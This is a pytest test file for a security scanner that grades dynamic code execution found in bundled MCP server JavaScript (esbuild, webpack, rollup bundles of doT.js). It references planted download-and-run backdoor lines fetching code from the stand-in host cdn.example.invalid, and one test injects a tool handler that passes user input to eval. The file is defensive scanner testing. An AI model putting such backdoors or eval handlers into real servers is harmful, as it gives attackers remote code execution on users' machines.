"""Bundled libraries in `dist/`: graded like the same library under node_modules.

The bundles under fixtures/bundles/ were written by the real esbuild, webpack and rollup
(scripts/make_bundle_fixtures.py, PROVENANCE.json) around the real `dot` (doT.js), whose
template compiler calls `new Function`. Each test runs the real CLI on an npx cache.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.beyond.helpers import FIXTURES, claude_desktop_config, install_npx
from tests.conftest import run_cli

BUNDLES = FIXTURES / "bundles"


def _lines(path: Path, marker: str) -> list[int]:
    return [n for n, line in enumerate(path.read_text().splitlines(), 1) if marker in line]


def _install(home: Path, fixture: str) -> Path:
    package = f"mcp-server-{fixture}"
    root = install_npx(home, f"bundles/{fixture}", package)
    claude_desktop_config(home, {"srv": {"command": "npx", "args": ["-y", f"{package}@1.0.0"]}})
    return root / "dist" / "index.js"


def _mcp720(home: Path) -> dict[int, dict]:
    proc = run_cli(
        "scan", "--format", "json", "--fail-on", "never", "--no-logs", "--no-processes",
        home=home,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    found = [f for f in json.loads(proc.stdout)["findings"] if f["rule_id"] == "MCP720"]
    assert all(f["server"] == "srv" for f in found)
    return {f["location"]["line"]: f for f in found}


@pytest.mark.parametrize(
    ("fixture", "how"),
    [
        ("esbuild-dot", "esbuild module comment, line 6"),
        ("webpack-dev-dot", "webpack module path, line 6"),
        ("webpack-prod-dot", "webpack module path, line 6"),
        ("rollup-dot", "source map index.js.map: ../node_modules/dot/doT.js"),
    ],
)
def test_library_code_in_a_bundle_is_low(isolated_home: Path, fixture: str, how: str) -> None:
    bundle = _install(isolated_home, fixture)
    found = _mcp720(isolated_home)
    sinks = _lines(bundle, "new Function(")
    assert len(sinks) == 3 and set(found) == set(sinks)
    for f in found.values():
        assert (f["location"]["path"], f["severity"]) == (str(bundle), "low")
        assert f"inside the bundled library dot ({how})" in f["message"]


def test_same_library_code_as_the_servers_own_stays_medium(isolated_home: Path) -> None:
    # The rollup bundle without its source map says nothing about where its lines came from.
    bundle = _install(isolated_home, "rollup-dot")
    (bundle.parent / "index.js.map").unlink()
    found = _mcp720(isolated_home)
    assert set(found) == set(_lines(bundle, "new Function("))
    assert {f["severity"] for f in found.values()} == {"medium"}
    assert not any("bundled library" in f["message"] for f in found.values())


def test_backdoor_in_the_bundles_own_code_is_high(isolated_home: Path) -> None:
    bundle = _install(isolated_home, "esbuild-dot-backdoor")
    found = _mcp720(isolated_home)
    (planted,) = _lines(bundle, 'fetch("https://cdn.example.invalid/u.js")')
    assert planted > _lines(bundle, "// src/index.js")[0]
    f = found.pop(planted)
    assert (f["location"]["path"], f["severity"]) == (str(bundle), "high")
    assert "runs code it downloads (download-and-run)" in f["message"]
    assert {f["severity"] for f in found.values()} == {"low"}  # doT's own compiler


def test_download_and_run_hidden_in_a_bundled_dependency_is_still_high(
    isolated_home: Path,
) -> None:
    bundle = _install(isolated_home, "esbuild-tplkit")
    found = _mcp720(isolated_home)
    (planted,) = _lines(bundle, 'fetch("https://cdn.example.invalid/t.js")')
    f = found.pop(planted)
    assert f["severity"] == "high"
    assert "inside what the bundle calls tplkit (esbuild module comment" in f["message"]
    assert {f["severity"] for f in found.values()} == {"low"}


def test_tool_input_into_bundled_library_code_keeps_its_grade(isolated_home: Path) -> None:
    """A library marker lowers only what no tool input reaches."""
    bundle = _install(isolated_home, "esbuild-dot")
    text = bundle.read_text()
    handler = (
        "// node_modules/evalkit/index.js\n"
        'server.tool("run", {}, async ({ code }) => eval(code));\n'
    )
    bundle.write_text(text + handler)
    found = _mcp720(isolated_home)
    (line,) = _lines(bundle, "eval(code)")
    assert found[line]["severity"] == "critical"
